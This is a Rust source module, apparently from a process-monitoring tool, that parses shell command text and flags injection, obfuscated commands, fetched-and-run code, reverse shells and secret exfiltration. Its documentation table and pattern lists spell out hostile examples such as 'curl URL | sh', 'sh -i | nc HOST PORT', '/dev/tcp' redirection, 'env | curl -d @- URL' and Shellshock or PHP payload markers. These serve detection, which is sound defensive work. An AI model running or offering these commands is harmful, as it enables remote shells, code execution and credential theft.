//! Shell text, read without running it: what `sh -c` was told, and whether a part of it was meant to be data.
//!
//! [`read`] gives the commands as the shell would see them, with quotes, tricks and encodings taken away, and signs:
//!
//! | sign | what it says |
//! | --- | --- |
//! | `injected-argument` | an argument of an ancestor stands in the text and has ended a command, or begun one |
//! | `injection` | a command stands where none belongs: `ping -c 1 x;id` |
//! | `injection-attempt` | the same, were `%3b`, `\n` or `&amp;` decoded, or quotes not there |
//! | `hidden-command` | the name of a program is written so that it is not recognised: `c''at`, `/b?n/c?t` |
//! | `runs-fetched` | what comes from the network is run: `curl URL \| sh` |
//! | `runs-installer` | the same, of well-known installers by HTTPS alone: `curl https://sh.rustup.rs \| sh` |
//! | `fetches-installer` | a program fetches one of them: `curl https://sh.rustup.rs` |
//! | `runs-decoded` | what was encoded is run: `echo aWQ= \| base64 -d \| sh` |
//! | `runs-copied` | a program is copied to where everybody can write, and run there: `cp /bin/sh /tmp/crond; /tmp/crond` |
//! | `dev-tcp` | a redirection to `/dev/tcp/HOST/PORT` |
//! | `shell-on-network` | what a shell prints goes to the network by a pipe: `sh -i \| nc HOST PORT` |
//! | `odd-option` | an option that programs are named in names one that it is not for: `tar --checkpoint-action=exec=sh` |
//! | `starts-shell` | code in the arguments of a program starts a shell to type into: `awk 'BEGIN {system("/bin/sh")}'` |
//! | `plants-command` | a text that runs what it fetches or decodes is put somewhere: `echo 'curl URL \| sh' >> x` |
//! | `sends-secrets` | keys, environments or histories go to the network: `env \| curl -d @- URL` |
//! | `tells-of-machine` | who and where one is goes to the network: `curl URL/$(whoami)` |
//!
//! ```
//! use kernscope_watch::detect::shell;
//! let reading = shell::read("ping -c 1 127.0.0.1;w'h'o$@ami", std::iter::empty());
//! assert_eq!(reading.commands, ["ping -c 1 127.0.0.1", "whoami"]);
//! assert!(reading.signs.iter().any(|sign| sign == "injection"));
//! ```

mod brought;
mod by_design;
mod calls;
mod danger;
mod embedded;
mod evaluate;
mod expand;
mod given;
mod handed;
mod heads;
mod installers;
mod judge;
mod landed;
mod leak;
mod made;
mod misplaced;
mod options;
mod origin;
mod parse;
mod payload;
mod planted;
pub(super) mod roles;
mod script;
mod secrets;
#[cfg(test)]
mod tests;
mod word;
pub(super) mod wrapper;

use crate::core::Process;
use std::borrow::Cow;

/// Programs that take a text behind `-c`.
const SHELLS: [&str; 12] =
    ["sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "rbash", "fish", "busybox", "su", "script"];
/// Texts in texts that are read.
const MAX_INNER: usize = 16;
/// Commands that are told.
const MAX_COMMANDS: usize = 512;

/// What a text says.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Reading {
    /// The text.
    pub text: String,
    /// Its commands, each in a line, folders of programs left out; those in texts that it runs as well.
    pub commands: Vec<String>,
    /// What is odd about it; see the module.
    pub signs: Vec<String>,
    /// Why, a fact each.
    pub because: Vec<String>,
    /// Records that speak for it.
    pub evidence: Vec<u64>,
}

/// The text that a shell is told to run.
pub fn text_of(argv: &[String]) -> Option<&str> {
    argv.get(text_index(argv)?).map(String::as_str)
}

/// Where it stands among the arguments.
fn text_index(argv: &[String]) -> Option<usize> {
    let name = argv.first()?.trim_start_matches('-');
    let name = name.rsplit('/').next().unwrap_or(name);
    if !SHELLS.contains(&name) {
        return None;
    }
    let start = if name == "busybox" { 2 } else { 1 };
    let mut has_c = false;
    let mut at = start;
    while let Some(arg) = argv.get(at) {
        match arg.strip_prefix('-').or_else(|| arg.strip_prefix('+')) {
            Some("-") | None if has_c => return Some(at),
            None if name != "su" => return None,
            Some("c" | "-command") => has_c = true,
            Some(flags) if !flags.starts_with('-') => {
                has_c |= flags.contains('c');
                at += usize::from(flags.ends_with('o') || flags.ends_with('O'));
            }
            _ => {}
        }
        at += 1;
    }
    None
}

/// Reads a shell's text. `lineage`: its ancestors, nearest first.
pub fn read<'a>(text: &str, lineage: impl Iterator<Item = &'a Process>) -> Reading {
    let mut reading = Reading { text: text.to_owned(), ..Reading::default() };
    let script = parse::parse(text);
    if let Some(origin) = origin::argument(text, &script, lineage) {
        reading.evidence.extend(origin.seq);
        sign(&mut reading, "injected-argument", vec![origin.because]);
    }
    if let Some(odd) = judge::oddity(&script, true) {
        sign(&mut reading, "injection", odd.because);
    } else if let Some(odd) = attempt(text, &script) {
        sign(&mut reading, "injection-attempt", odd.because);
    } else if script.top().any(misplaced::is_misplaced)
        || decoded(text).is_some_and(|text| parse::parse(&text).top().any(misplaced::is_misplaced))
    {
        sign(&mut reading, "injection-attempt", vec!["a command stands where a machine is named".to_owned()]);
    } else if script.calls || is_other_language(&decoded(text).unwrap_or_else(|| text.to_owned())) {
        sign(
            &mut reading,
            "injection-attempt",
            vec!["code of another language stands in the text".to_owned()],
        );
    }
    follow(&mut reading, vec![script]);
    reading
}

/// Reads the texts in the arguments of a program that is no shell: `git clone --upload-pack='id;'`, `awk 'BEGIN {system("id")}'`.
pub fn read_arguments(argv: &[String]) -> Reading {
    let mut reading = Reading::default();
    let command = script::Command::of(argv);
    if installers::is_one(&command) {
        return Reading { text: argv.join(" "), signs: vec!["fetches-installer".to_owned()], ..reading };
    }
    if !embedded::may_take(argv) {
        return reading;
    }
    let script = script::Script { commands: vec![command], ..script::Script::default() };
    follow(&mut reading, vec![script]);
    // The command itself is known.
    reading.commands.remove(0);
    if reading.commands.is_empty() && reading.signs.is_empty() {
        return Reading::default();
    }
    reading.text = argv.join(" ");
    reading
}

/// Notes the commands and the signs of texts, and of those that they run.
fn follow(reading: &mut Reading, mut texts: Vec<script::Script>) {
    let mut at = 0;
    while let Some(script) = texts.get(at) {
        at += 1;
        for name in danger::signs(script) {
            let name =
                if name == "runs-fetched" && installers::only(script) { "runs-installer" } else { name };
            sign(reading, name, Vec::new());
        }
        if planted::plants(script) {
            sign(reading, "plants-command", vec!["a text in an argument runs what it brings".to_owned()]);
        }
        if made::hands_over(script) {
            sign(
                reading,
                "odd-option",
                vec!["a program that the text has made is given to another to start".to_owned()],
            );
        }
        let sent = leak::sent(script);
        if sent.secrets > 0 {
            sign(reading, "sends-secrets", Vec::new());
        } else if sent.is_leak() {
            sign(reading, "tells-of-machine", Vec::new());
        }
        let room = MAX_COMMANDS.saturating_sub(reading.commands.len());
        reading.commands.extend(
            script.commands.iter().map(script::Command::line).filter(|line| !line.is_empty()).take(room),
        );
        reading.commands.extend(handed::fed(script).into_iter().take(MAX_INNER));
        reading.commands.extend(handed::teed(script).into_iter().take(MAX_INNER));
        let embedded: Vec<_> =
            script.commands.iter().take(MAX_COMMANDS).flat_map(embedded::texts).take(MAX_INNER).collect();
        for option in embedded.iter().filter_map(|embedded| embedded.odd) {
            sign(reading, "odd-option", vec![format!("{option} names a program that it is not for")]);
        }
        let is_own = |command: &&script::Command| script.functions.iter().any(|name| name == command.name());
        let given = || {
            script.commands.iter().take(MAX_COMMANDS).filter(|one| !is_own(one)).any(embedded::gives_shell)
        };
        if embedded.iter().any(|embedded| embedded.starts_shell)
            || given()
            || script
                .top()
                .any(|command| command.words.first().is_some_and(|first| given::is_bang(&first.text)))
            || given::is_given_by_variable(script)
        {
            sign(reading, "starts-shell", Vec::new());
        }
        let inner =
            handed::inner(script).into_iter().chain(embedded.into_iter().map(|embedded| embedded.text));
        let room = MAX_INNER.saturating_sub(texts.len());
        let inner: Vec<_> = inner.take(room).map(|text| parse::parse_in(&text, &script.exported)).collect();
        texts.extend(inner);
    }
}

fn sign(reading: &mut Reading, name: &str, because: Vec<String>) {
    if !reading.signs.iter().any(|known| known == name) {
        reading.signs.push(name.to_owned());
        reading.because.extend(because);
    }
}

/// A command of a text, as it would be started.
#[cfg(test)]
pub(super) struct Simple {
    pub(super) words: Vec<String>,
    /// Operator and target.
    pub(super) redirects: Vec<(String, String)>,
    /// What it is given to read, where the text has that.
    pub(super) input: Option<String>,
}

/// The commands of a text and of the texts that it runs.
#[cfg(test)]
pub(super) fn simple_commands(text: &str) -> Vec<Simple> {
    let mut scripts = vec![parse::parse(text)];
    let mut at = 0;
    while at < scripts.len() && scripts.len() < MAX_INNER {
        let known = &scripts[at].exported;
        let inner: Vec<_> =
            handed::inner(&scripts[at]).iter().map(|text| parse::parse_in(text, known)).collect();
        scripts.extend(inner);
        at += 1;
    }
    let simple = |command: &script::Command| Simple {
        words: command.words.iter().map(|word| word.text.clone()).collect(),
        redirects: command.redirects.iter().map(|(op, target)| (op.clone(), target.text.clone())).collect(),
        input: command.input.clone(),
    };
    let is_function = |command: &&script::Command| {
        scripts.iter().any(|script| script.functions.iter().any(|name| name == command.name()))
    };
    scripts.iter().flat_map(|script| &script.commands).filter(|one| !is_function(one)).map(simple).collect()
}

/// What would be odd about a text, had a web server decoded it or were what it gives to a program not in quotes.
fn attempt(text: &str, script: &script::Script) -> Option<judge::Oddity> {
    let judged = |text: &str, written: bool| judge::oddity(&parse::parse(text), written);
    let decoded = decoded(text);
    if let Some(odd) = decoded.as_deref().and_then(|text| judged(text, false)) {
        return Some(odd);
    }
    // A line that goes on, in the coding of addresses: nobody but who hides a name writes that.
    if memchr::memmem::find(text.to_ascii_lowercase().as_bytes(), b"%5c%0a").is_some() {
        return Some(judge::Oddity {
            points: 3,
            because: vec!["a word is broken by a coded end of line".to_owned()],
        });
    }
    // What stands in quotes is often a program for another interpreter: it must be odder, unless a machine is named.
    let data = script.top().next().map_or(0, heads::takes_data);
    let prints =
        script.top().next().is_some_and(|command| matches!(command.name(), "echo" | "printf" | "grep"));
    let enough = if data > 1 { 3 } else { 4 };
    // What others are given in quotes is none of its data.
    let plain = decoded.as_deref().unwrap_or(text);
    let ends = |script: &script::Script| script.top().nth(1).map_or(plain.len(), |next| next.at);
    let end = if decoded.is_some() { ends(&parse::parse(plain)) } else { ends(script) };
    let end = if plain.is_char_boundary(end) { end } else { plain.len() };
    let unquoted = format!("{}{}", plain[..end].replace(['\'', '"'], ""), &plain[end..]);
    let try_it = data > 0 && !prints && unquoted != plain;
    try_it.then(|| judged(&unquoted, decoded.is_none())).flatten().filter(|odd| odd.points >= enough)
}

/// The text with separators decoded that only a web server would have decoded, if there are any.
fn decoded(text: &str) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    let coded =
        ["%0a", "%0d", "%3b", "%7c", "%26", "%60", "%24", "%20", "\\n", "&amp;", "&lt;", "&quot;", "&#"];
    if !coded.iter().any(|code| lower.contains(code)) {
        return None;
    }
    let mut out: Vec<u8> = Vec::with_capacity(text.len());
    let bytes = text.as_bytes();
    let mut at = 0;
    while let Some(&c) = bytes.get(at) {
        let digits = bytes.get(at + 1..at + 3).and_then(|two| std::str::from_utf8(two).ok());
        match (c, digits.and_then(|two| u8::from_str_radix(two, 16).ok())) {
            (b'%', Some(byte)) => {
                // What ends a line elsewhere.
                out.push(if byte == b'\r' { b'\n' } else { byte });
                at += 3;
            }
            (b'\\', _) if bytes.get(at + 1) == Some(&b'n') => {
                out.push(b'\n');
                at += 2;
            }
            _ => {
                out.push(c);
                at += 1;
            }
        }
    }
    let text = Cow::Owned(String::from_utf8_lossy(&out).replace("\\\n", ""));
    let text: Cow<'_, str> = ["&amp;", "&lt;", "&gt;", "&quot;"]
        .iter()
        .zip(["&", "<", ">", "\""])
        .fold(text, |text, (code, plain)| Cow::Owned(text.replace(code, plain)));
    Some(text.into_owned())
}

/// Code that is sent to many sorts of servers in turn, in the hope that one runs it.
fn is_other_language(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    lower.contains("<!--#exec")
        || lower.contains("<?php")
        || lower.contains("() { :;}")
        || ["system('", "system(\"", "passthru('", "shell_exec('", "popen('", "os.execute('", "os.execute(\""]
            .iter()
            .any(|call| {
                lower.find(call).is_some_and(|at| {
                    let before = lower[..at].trim_end();
                    before.is_empty() || before.ends_with([';', '|', '&', '\n', '('])
                })
            })
}
